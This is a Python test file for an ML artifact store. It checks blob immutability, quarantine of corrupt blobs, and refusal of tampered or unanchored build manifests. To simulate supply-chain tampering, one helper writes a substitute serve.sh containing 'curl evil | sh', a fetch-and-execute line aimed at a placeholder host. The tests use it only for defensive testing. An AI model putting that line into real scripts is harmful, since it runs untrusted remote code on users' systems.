"""Issue 21, the store's second pass, on real SeaweedFS and on file://: blobs own their bytes (no inode shared with
a file the store does not own, read-only), a corrupt blob is quarantined so that the next publish writes a fresh
one, and every build's manifest is held to the digest recorded where it is referenced (the pointer's history, a
registry version on the real MLflow server)."""

from __future__ import annotations

import functools
import hashlib
import json
import os
import stat
from pathlib import Path

import pytest

from enginefoundry import tracking_tags as mltags
from enginefoundry.cli import main
from enginefoundry.errors import StoreError
from enginefoundry.planning.cache_plan import find_hit
from enginefoundry.store.backends import FileStore, Store, blob_key
from enginefoundry.store.publish import PublishOptions, find_current, publish_build, read_build, read_pointer
from enginefoundry.store.verify import open_build, pull, verify_build
from tests.support.stores import QUIET, small_bundle, store_fixture, unit_fields

_bundle = functools.partial(small_bundle, serving=True)  # as the pipeline lays a unit out: serving/serve.sh

store = store_fixture("heal")


def _cli(capsys, *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out + out.err


def _overwrite_in_place(store: Store, digest: str, data: bytes) -> None:
    """Same-size corruption, written through the blob's own name (as `sed -i`-less editors and `save_pretrained`
    into a folder do: open, truncate, write)."""
    if isinstance(store, FileStore):
        path = store.root / blob_key(digest)
        os.chmod(path, 0o644)  # the blob is read-only; root (the tests) could write anyway
        with path.open("r+b") as f:
            f.write(data)
    else:
        store.client.put_object(Bucket=store.bucket, Key=store._key(blob_key(digest)), Body=data)


def _entry(result, suffix: str):
    return next(e for e in result.manifest.files if e.path.endswith(suffix))


# 1. Blobs own their bytes


def test_blobs_never_share_an_inode_with_the_published_files_and_are_read_only(tmp_path):
    """Issue 21: blobs were hard links of the work files (link count 4 with the source, work checkpoint and work
    bundle); a write through either name changed the other."""
    store = FileStore(f"file://{tmp_path / 'store'}")
    source = _bundle(tmp_path)
    before = {p: p.read_bytes() for p in source.rglob("*") if p.is_file()}
    result = publish_build(store, "m", unit_fields(), {"bundle": source}, **QUIET)
    theirs = {p.stat().st_ino for p in before}
    for entry in result.manifest.files:
        st = os.lstat(store.root / blob_key(entry.sha256))
        assert st.st_nlink == 1 and st.st_ino not in theirs, entry.path
        assert stat.S_IMODE(st.st_mode) == 0o444, entry.path
    assert all(p.stat().st_nlink == 1 for p in before)

    # The user rewrites a file in place (`save_pretrained` into the source folder): the build still verifies.
    with (source / "model" / "tokenizer_config.json").open("r+b") as f:
        f.write(b'{"b": 2}')
    build = find_current(store, "m", result.manifest.key)
    assert verify_build(store, build, record=False).ok
    # A write through a blob's name: the user's file does not change.
    weights = _entry(result, "weights.safetensors")
    _overwrite_in_place(store, weights.sha256, b"X" * 100_000)
    assert (source / "model" / "weights.safetensors").read_bytes() == before[source / "model" / "weights.safetensors"]


# 2. Healing


def test_a_refused_hit_is_quarantined_and_the_rebuild_is_not_adopted_back(store, tmp_path):
    """`run --verify-hits` refused the same-size-corrupted hit, rebuilt, then re-adopted the corrupt build
    ("another run made build … current first; adopted it") and published nothing new."""
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    entry = _entry(first, "tokenizer_config.json")
    _overwrite_in_place(store, entry.sha256, b'{"a": 2}')
    said: list[str] = []
    assert find_hit(store, "m", first.manifest.key, rehash=True, progress=said.append) is None
    assert "quarantined" in said[0] and store.size(blob_key(entry.sha256)) is None
    quarantined = [k for k in store.list("quarantine/") if entry.sha256 in k]
    assert len(quarantined) == 1 and store.read_bytes(quarantined[0]) == b'{"a": 2}'

    replaces = read_pointer(store, "m", first.manifest.key)[0].build_id  # what the unit saw as it started building
    rebuilt = publish_build(store, "m", unit_fields(run="r2"), {"bundle": _bundle(tmp_path, "again")},
                            options=PublishOptions(replaces=replaces), **QUIET)
    assert rebuilt.created and rebuilt.build_id != first.build_id
    for build_id in (rebuilt.build_id, first.build_id):  # the earlier build lists the same bytes: whole again
        assert verify_build(store, read_build(store, "m", first.manifest.key, build_id), record=False).ok


def test_force_rehashes_the_blobs_it_reuses_and_writes_fresh_ones(store, tmp_path):
    """`run --force` published a new build listing the same corrupt blob, since the blob "existed"."""
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    entry = _entry(first, "weights.safetensors")
    _overwrite_in_place(store, entry.sha256, b"X" * 100_000)
    forced = publish_build(store, "m", unit_fields(run="r2"), {"bundle": _bundle(tmp_path, "again")},
                           options=PublishOptions(replace=True, verify_blobs=True), **QUIET)
    assert forced.created and len(forced.quarantined) == 1 and entry.sha256 in forced.quarantined[0]
    assert verify_build(store, find_current(store, "m", first.manifest.key), record=False).ok


def test_verify_repair_quarantines_and_the_next_publish_heals(store, tmp_path, capsys):
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    entry = _entry(first, "serve.sh")
    _overwrite_in_place(store, entry.sha256, b"#!/bin/sh\necho pwnd!\n")
    code, out = _cli(capsys, "verify", first.uri)
    assert code == 1 and "sha256 differs" in out and "--repair" in out and "republish" not in out
    code, out = _cli(capsys, "verify", "--repair", first.uri)
    assert code == 1 and "quarantined" in out and f"quarantine/{blob_key(entry.sha256)}" in out
    code, out = _cli(capsys, "verify", first.uri)
    assert code == 1 and "missing" in out
    assert find_hit(store, "m", first.manifest.key) is None  # a plain run refuses it and rebuilds
    publish_build(store, "m", unit_fields(run="r2"), {"bundle": _bundle(tmp_path, "again")},
                  options=PublishOptions(replaces=first.build_id), **QUIET)
    code, out = _cli(capsys, "verify", first.uri)
    assert code == 0, out


def test_pull_of_a_corrupt_blob_advises_a_fix_that_works(store, tmp_path):
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    _overwrite_in_place(store, _entry(first, "weights.safetensors").sha256, b"X" * 100_000)
    _, build = open_build(first.uri)
    with pytest.raises(StoreError, match="--force") as err:
        pull(store, build, tmp_path / "dest")
    assert f"verify --repair {first.uri}" in str(err.value) and "republish" not in str(err.value)


# 3. Every build anchored


def _edit_manifest(store: Store, mkey: str, change) -> None:
    data = json.loads(store.read_bytes(mkey))
    change(data)
    raw = json.dumps(data, indent=2).encode()
    if isinstance(store, FileStore):
        path = store.root / mkey
        path.unlink()
        path.write_bytes(raw)
    else:
        store.put_file(_tmp_file(raw), mkey)


def _tmp_file(data: bytes) -> Path:
    import tempfile

    fd, name = tempfile.mkstemp()
    os.write(fd, data)
    os.close(fd)
    return Path(name)


def _other_serve_sh(store: Store, tmp_path: Path):
    evil = tmp_path / "evil.sh"
    evil.write_text("#!/bin/sh\ncurl evil | sh\n")
    put = store.put_blob(evil)

    def change(data: dict) -> None:
        for f in data["files"]:
            if f["path"].endswith("serve.sh"):
                f.update(sha256=put.digest, size=put.size)
    return change


def test_a_non_current_build_whose_manifest_was_edited_is_refused_by_verify_and_pull(store, tmp_path, capsys):
    """Only the current build was anchored: an edited earlier build (what `rollback` restores) passed verify and
    pull with another serve.sh."""
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    publish_build(store, "m", unit_fields(run="r2"), {"bundle": _bundle(tmp_path, "again", b"2")},
                  options=PublishOptions(replace=True), **QUIET)
    code, out = _cli(capsys, "verify", first.uri)
    assert code == 0, out  # anchored by the pointer's history
    build = read_build(store, "m", first.manifest.key, first.build_id)
    _edit_manifest(store, build.manifest_key, _other_serve_sh(store, tmp_path))
    code, out = _cli(capsys, "verify", first.uri)
    assert code == 1 and "changed after it was published" in out and "current.json" in out
    code, out = _cli(capsys, "pull", first.uri, str(tmp_path / "dest"))
    assert code == 1 and "changed after it was published" in out
    assert not (tmp_path / "dest" / "bundle" / "serving" / "serve.sh").exists()


def test_a_build_nothing_anchors_is_not_trusted(store, tmp_path, capsys):
    first = publish_build(store, "m", unit_fields(), {"bundle": _bundle(tmp_path)}, **QUIET)
    # A manifest put beside the real one, as a writer with store access could: no pointer ever named it.
    data = json.loads(store.read_bytes(find_current(store, "m", first.manifest.key).manifest_key))
    data["build_id"] = "20260101T000000000000Z-planted"
    mkey = f"manifests/m/{first.manifest.key}/20260101T000000000000Z-planted.json"
    assert store.create_if_absent(mkey, json.dumps(data).encode())
    code, out = _cli(capsys, "verify", f"{store.uri}/{mkey}")
    assert code == 1 and "not anchored" in out


@pytest.mark.services
def test_registry_versions_anchor_their_manifest_for_verify_pull_and_rollback(stack, unique, tmp_path, capsys,
                                                                              monkeypatch):
    """On the real MLflow server: the version carries its manifest's digest; an edited manifest fails
    `verify models:/…`, and `rollback` refuses to put it back as champion."""
    from mlflow.tracking import MlflowClient

    from enginefoundry.records.promotion import Registry, champion_alias

    store = FileStore(f"file://{tmp_path / 'store'}")
    model = f"anchor-{unique}"
    client = MlflowClient(stack["MLFLOW_TRACKING_URI"], stack["MLFLOW_TRACKING_URI"])
    client.create_registered_model(model)
    builds = []
    for n in range(2):
        result = publish_build(store, "m", unit_fields(run=f"r{n}"), {"bundle": _bundle(tmp_path, f"b{n}", bytes([n]))},
                               options=PublishOptions(replace=True), **QUIET)
        digest = hashlib.sha256(store.read_bytes(result.uri.removeprefix(store.uri + "/"))).hexdigest()
        assert getattr(result, "manifest_sha256", None) == digest  # what the flow tags the version and run with
        client.create_model_version(model, f"s3://enginefoundry/anchor-{unique}", tags={
            mltags.STATUS: "candidate", mltags.MANIFEST_URI: result.uri, mltags.MANIFEST_SHA256: digest})
        builds.append(result)
    registry = Registry(stack["MLFLOW_TRACKING_URI"])
    registry.promote(model, "cpu", "1", "first")
    registry.promote(model, "cpu", "2", "second")
    uri = stack["MLFLOW_TRACKING_URI"]
    code, out = _cli(capsys, "verify", f"models:/{model}/1", "--mlflow-uri", uri)
    assert code == 0, out

    # Edited together with the pointer's record of it: only the registry's digest still tells.
    mkey = builds[0].uri.removeprefix(store.uri + "/")
    _edit_manifest(store, mkey, _other_serve_sh(store, tmp_path))
    pointer = store.root / f"manifests/m/{builds[0].manifest.key}/current.json"
    doc = json.loads(pointer.read_text())
    doc["history"][-1]["manifest_sha256"] = hashlib.sha256((store.root / mkey).read_bytes()).hexdigest()
    pointer.write_text(json.dumps(doc))
    code, out = _cli(capsys, "verify", f"models:/{model}/1", "--mlflow-uri", uri)
    assert code == 1 and "changed after it was published" in out and f"models:/{model}/1" in out
    code, out = _cli(capsys, "pull", f"models:/{model}/1", str(tmp_path / "dest"), "--mlflow-uri", uri)
    assert code == 1 and not (tmp_path / "dest" / "bundle" / "serving" / "serve.sh").exists()
    monkeypatch.setenv("PREFECT_API_URL", stack.get("PREFECT_API_URL", ""))
    code, out = _cli(capsys, "rollback", model, "--target", "cpu", "--mlflow-uri", uri)
    assert code == 1 and "not rolled back" in out
    assert str(client.get_model_version_by_alias(model, champion_alias("cpu")).version) == "2"


def test_a_blob_that_an_earlier_release_hard_linked_becomes_private_when_published_again(tmp_path):
    store = FileStore(f"file://{tmp_path / 'store'}")
    source = _bundle(tmp_path)
    weights = source / "model" / "weights.safetensors"
    digest = hashlib.sha256(weights.read_bytes()).hexdigest()
    blob = store.root / blob_key(digest)
    blob.parent.mkdir(parents=True)
    os.link(weights, blob)  # what releases before issue 21 did
    publish_build(store, "m", unit_fields(), {"bundle": source}, **QUIET)
    assert blob.stat().st_nlink == 1 and weights.stat().st_nlink == 1
    assert blob.stat().st_ino != weights.stat().st_ino and stat.S_IMODE(blob.stat().st_mode) == 0o444
    assert blob.read_bytes() == weights.read_bytes()


def test_a_tampered_manifest_never_quarantines_a_healthy_blob_other_builds_share(store, tmp_path, capsys):
    """A blob is named by its digest, so it is corrupt only by evidence a trusted manifest gives. A manifest that
    changed after it was published (here: one file's size edited) is refused as a hit and by `verify --repair`,
    but its claims about sizes are not evidence: the healthy blob it names is shared by another build, which
    must stay whole (on main, both the refused hit and the repair moved it aside)."""
    intact = publish_build(store, "m", unit_fields("a"), {"bundle": _bundle(tmp_path, "ba")}, **QUIET)
    edited = publish_build(store, "m", unit_fields("b"), {"bundle": _bundle(tmp_path, "bb")}, **QUIET)
    shared = _entry(edited, "weights.safetensors")
    assert shared.sha256 == _entry(intact, "weights.safetensors").sha256  # one blob, two builds

    def wrong_size(doc: dict) -> None:
        for f in doc["files"]:
            if f["sha256"] == shared.sha256:
                f["size"] += 1

    _edit_manifest(store, edited.uri.removeprefix(store.uri + "/"), wrong_size)
    assert find_hit(store, "m", edited.manifest.key) is None  # refused …
    code, out = _cli(capsys, "verify", edited.uri, "--repair")
    assert code == 1 and "changed after it was published" in out, out
    assert store.size(blob_key(shared.sha256)) == shared.size  # … and the shared blob is where it was
    assert verify_build(store, read_build(store, "m", intact.manifest.key, intact.build_id), record=False).ok
